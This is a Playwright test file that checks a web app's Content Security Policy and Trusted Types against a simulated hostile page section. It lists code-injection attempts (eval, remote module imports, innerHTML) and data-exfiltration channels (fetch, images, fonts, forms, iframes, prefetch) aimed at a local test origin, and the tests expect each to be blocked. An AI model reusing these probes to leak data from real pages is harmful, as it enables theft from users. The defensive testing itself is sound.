import type { Page, Response } from '@playwright/test';
import { type Attempts, shipHostileSection } from '../fixtures/hostile-section.ts';
import { type Outside, startOutside } from '../fixtures/outside.ts';
import { expect, test as base } from '../fixtures/test.ts';
import { untilReady } from '../fixtures/until-ready.ts';

/** Attacks of a hostile section that the page's policy and the shell must block. */
const test = base.extend<{
  outside: Outside;
  /** Opens the page of a section that has these attempts. */
  openHostile: (name: string, attempts: Attempts) => Promise<Response | null>;
}>({
  outside: async ({}, use) => {
    const outside = await startOutside();
    await use(outside);
    outside.close();
  },
  openHostile: async ({ page, request, guard }, use) => {
    // The browser reports each attempt in the console.
    guard.expectConsole(/./);
    await use(async (name, attempts) => {
      const { path } = await shipHostileSection(request, name, attempts);
      const document = await page.goto(path);
      await page.waitForFunction(() => 'attempt' in globalThis);
      return document;
    });
  },
});

const element = (tag: string, attributes: string) =>
  `const element = Object.assign(document.createElement('${tag}'), ${attributes});` +
  'document.body.append(element);';

const style = (css: string) =>
  element('style', `{ nonce: document.querySelector('style[nonce]').nonce }`) +
  `element.append(\`${css}\`);`;

/** Ways to run foreign code, by the directive that forbids them. */
const FOREIGN_CODE: readonly [what: string, code: string, directive: string][] = [
  ['a module of another origin', `await import(outside + '/x.js')`, 'script-src-elem'],
  [
    'a module made of text',
    `await import(URL.createObjectURL(new Blob(['1'], { type: 'text/javascript' })))`,
    'script-src-elem',
  ],
  ['eval', `eval('1')`, 'require-trusted-types-for'],
  ['innerHTML', `document.body.innerHTML += '<b>x</b>'`, 'require-trusted-types-for'],
  ['a script element with text', element('script', `{ text: '1' }`), 'require-trusted-types-for'],
  [
    'a service worker',
    `await navigator.serviceWorker.register('/x.js')`,
    'require-trusted-types-for',
  ],
  ['a policy of its own', `trustedTypes.createPolicy('mine', {})`, 'trusted-types'],
  ['the policy of the shell', `trustedTypes.createPolicy('elbi', {})`, 'trusted-types'],
  [
    'another base',
    `document.head.append(Object.assign(document.createElement('base'), { href: outside }))`,
    'base-uri',
  ],
];

/** Ways to send data out without leaving the page, by the directive that forbids them. */
const WAYS_OUT: readonly [what: string, code: string, directive: string][] = [
  ['fetch', `await fetch(outside + '/x')`, 'connect-src'],
  ['a picture', `new Image().src = outside + '/x.png'`, 'img-src'],
  [
    'a font',
    style('@font-face { font-family: x; src: url(${outside}/x.woff2) } :scope { font-family: x }'),
    'font-src',
  ],
  ['an imported style sheet', style('@import url(${outside}/x.css);'), 'style-src-elem'],
  [
    'a style sheet with the nonce of styles',
    element(
      'link',
      `{ rel: 'stylesheet', href: outside + '/x.css', nonce: document.querySelector('style[nonce]').nonce }`,
    ),
    'style-src-elem',
  ],
  ['a video', element('video', `{ src: outside + '/x.mp4' }`), 'media-src'],
  ['a frame', element('iframe', `{ src: outside + '/x' }`), 'frame-src'],
  [
    'an object',
    element('object', '{}') + `element.data = outside + '/x'`,
    'require-trusted-types-for',
  ],
  ['a form', element('form', `{ action: outside + '/x' }`) + 'element.submit()', 'form-action'],
  ['a prefetch', element('link', `{ rel: 'prefetch', href: outside + '/x' }`), 'default-src'],
  [
    'a module preload',
    element('link', `{ rel: 'modulepreload', href: outside + '/x.js' }`),
    'script-src-elem',
  ],
];

/** Returns the result of an attempt. */
const attemptIn = (page: Page, name: string, outside?: Outside) =>
  page.evaluate(([what, at]) => attempt(what, { outside: at }), [name, outside?.origin] as const);

/** The result of each attempt, by name. */
async function outcomes(
  page: Page,
  attempts: readonly (readonly [string, ...string[]])[],
  outside: Outside,
) {
  const where = { outside: outside.origin };
  const found: Record<string, string> = {};
  for (const [what] of attempts) {
    found[what] = await page.evaluate(([name, at]) => refusalOf(name, at), [what, where] as const);
  }
  return found;
}

/**
 * Once the permitted request has arrived, all earlier ones to the outside would have arrived, too.
 */
async function leave(page: Page, outside: Outside): Promise<void> {
  await page.goto(`${outside.origin}/end`);
}

const namesOf = (attempts: readonly (readonly [string, string, string])[]) =>
  Object.fromEntries(attempts.map(([what, , directive]) => [what, directive]));
const codesOf = (attempts: readonly (readonly [string, string, string])[]): Attempts =>
  Object.fromEntries(attempts.map(([what, code]) => [what, code]));

test.describe('a hostile section', () => {
  test('runs no code from outside its release', async ({ page, outside, openHostile }) => {
    await openHostile('hostile-code', codesOf(FOREIGN_CODE));
    expect(await outcomes(page, FOREIGN_CODE, outside)).toEqual(namesOf(FOREIGN_CODE));
    await leave(page, outside);
    expect(outside.requests).toEqual(['/end']);
  });

  test('sends no data out of the page', async ({ page, outside, openHostile }) => {
    await openHostile('hostile-way-out', codesOf(WAYS_OUT));
    expect(await outcomes(page, WAYS_OUT, outside)).toEqual(namesOf(WAYS_OUT));
    await leave(page, outside);
    expect(outside.requests).toEqual(['/end']);
  });

  test('runs no released script that is not in this document', async ({ page, openHostile }) => {
    await openHostile('hostile-unnamed', {
      unnamed: `return import(import.meta.url + '?again').then(() => 'ran')`,
      named: `return import(WORKER).then(() => 'ran')`,
    });
    expect(await attemptIn(page, 'unnamed')).toBe('TypeError');
    expect(await attemptIn(page, 'named')).toBe('ran');
  });

  test('finds only the nonce of styles, in the page and in its cached copy', async ({
    page,
    openHostile,
  }) => {
    const document = await openHostile('hostile-nonce', {
      page: `return [...new Set([...document.querySelectorAll('*')].map(({ nonce }) => nonce).filter(Boolean))]`,
      stored:
        `return fetch(location.href, { cache: 'only-if-cached', mode: 'same-origin' })` +
        `.then((answer) => answer.text())`,
    });
    const policy = (await document?.headerValue('content-security-policy')) ?? '';
    const [, style = ''] = /style-src 'nonce-([^']+)'/.exec(policy) ?? [];
    expect(await attemptIn(page, 'page')).toEqual([style]);
    expect(await attemptIn(page, 'stored')).toBe('TypeError');
  });

  test('starts only released workers, which cannot send data out and do not persist', async ({
    page,
    outside,
    openHostile,
  }) => {
    await openHostile('hostile-worker', {
      shipped:
        `const { workerUrl } = await sdk();` +
        `const worker = new Worker(workerUrl(WORKER), { type: 'module' });` +
        `const said = new Promise((resolve) => { worker.onmessage = ({ data }) => resolve(data) });` +
        `worker.postMessage({ outside });` +
        `return said;`,
      other: `const { workerUrl } = await sdk(); workerUrl(new URL('/x.js', location.href))`,
      elsewhere: `const { workerUrl } = await sdk(); workerUrl(new URL(outside + '/x.js'))`,
      service:
        `const { workerUrl } = await sdk();` +
        `await navigator.serviceWorker.register(workerUrl(WORKER), { type: 'module' }); return 'stays'`,
    });
    const attemptOf = (name: string) => attemptIn(page, name, outside);
    expect(await attemptOf('shipped')).toBe('refused');
    expect(await attemptOf('other')).toBe('TypeError');
    expect(await attemptOf('elsewhere')).toBe('TypeError');
    expect(await attemptOf('service')).toBe('TypeError');
    await leave(page, outside);
    expect(outside.requests).toEqual(['/end']);
  });
});

/** Follows a link of the footer to a page of the shell, like a user. */
async function leaveForTerms(page: Page): Promise<void> {
  await page
    .getByRole('contentinfo')
    .getByRole('link', { name: /^Terms/ })
    .first()
    .click();
  await expect(page.getByRole('heading', { level: 1, name: /terms/i })).toBeVisible();
}

const colorOf = (page: Page, selector: string) =>
  page
    .locator(selector)
    .first()
    .evaluate((element) => getComputedStyle(element).color);

test.describe('isolation of sections', () => {
  test('does not style other sections, not even later', async ({ page, openHostile }) => {
    const css = 'p, h1, footer a { color: rgb(1, 2, 3) !important }';
    await openHostile('hostile-style', {
      element: style(css) + `return 'done'`,
      adopted:
        `const sheet = new CSSStyleSheet(); sheet.replaceSync('${css}');` +
        `document.adoptedStyleSheets.push(sheet); return 'done'`,
      own: `document.querySelector('[data-section] p, [data-section]').append(document.createElement('p')); return 'done'`,
    });
    await attemptIn(page, 'own');
    await attemptIn(page, 'element');
    await expect.poll(() => colorOf(page, '[data-section] p')).toBe('rgb(1, 2, 3)');
    expect(await colorOf(page, 'footer a')).not.toBe('rgb(1, 2, 3)');
    await attemptIn(page, 'adopted');
    await leaveForTerms(page);
    expect(await colorOf(page, 'h1')).not.toBe('rgb(1, 2, 3)');
    expect(await colorOf(page, 'main p')).not.toBe('rgb(1, 2, 3)');
  });

  test('leaves the styles of a user’s extension to the whole page', async ({ browser }) => {
    // The policy does not apply to extensions.
    const context = await browser.newContext({ bypassCSP: true });
    const page = await context.newPage();
    await page.goto('/');
    await untilReady(page);
    const session = await context.newCDPSession(page);
    const { frameTree } = await session.send('Page.getFrameTree');
    const { executionContextId: contextId } = await session.send('Page.createIsolatedWorld', {
      frameId: frameTree.frame.id,
    });
    const addStyles = [
      "const style = document.createElement('style');",
      "style.textContent = 'footer a, h1 { color: rgb(1, 2, 3) !important }';",
      'document.head.append(style);',
      'const sheet = new CSSStyleSheet();',
      "sheet.replaceSync('body { color: rgb(1, 2, 3) !important }');",
      'document.adoptedStyleSheets.push(sheet);',
      "document.head.append(document.createElement('style'));",
    ];
    await session.send('Runtime.evaluate', { contextId, expression: addStyles.join('') });
    for (const part of ['body', 'footer a', 'h1']) {
      await expect.poll(() => colorOf(page, part), part).toBe('rgb(1, 2, 3)');
    }
    await context.close();
  });

  test('does not replace built-in functions', async ({ page, openHostile }) => {
    await openHostile('hostile-functions', {
      fetch: `globalThis.fetch = () => Promise.reject(new Error('mine'))`,
      history: `history.pushState = () => {}`,
      prototype: `Element.prototype.append = () => {}`,
    });
    for (const name of ['fetch', 'history', 'prototype']) {
      expect(await attemptIn(page, name), name).toBe('TypeError');
    }
  });

  test('does not cover the header', async ({ page, openHostile }) => {
    await openHostile('hostile-layer', {
      cover:
        `const cover = document.createElement('div');` +
        `Object.assign(cover.style, { position: 'fixed', inset: 0, zIndex: 2147483647 });` +
        `document.querySelector('[data-section]').append(cover); return 'done'`,
    });
    await attemptIn(page, 'cover');
    await page.getByRole('banner').getByRole('link', { name: /home/ }).click();
    await expect(page.getByRole('heading', { level: 1 })).toHaveText('Discover Accommodations');
  });
});
